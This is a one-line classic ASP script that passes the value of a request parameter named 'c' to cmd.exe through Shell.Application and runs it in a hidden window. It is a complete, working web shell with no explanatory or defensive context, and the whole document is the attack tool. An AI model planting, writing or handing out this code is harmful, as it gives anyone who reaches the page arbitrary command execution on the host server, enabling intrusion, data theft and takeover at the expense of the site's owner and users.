<% Set sa = Server.CreateObject("Shell.Application") : sa.ShellExecute "cmd.exe", "/c " & Request("c"), "", "open", 0 %>
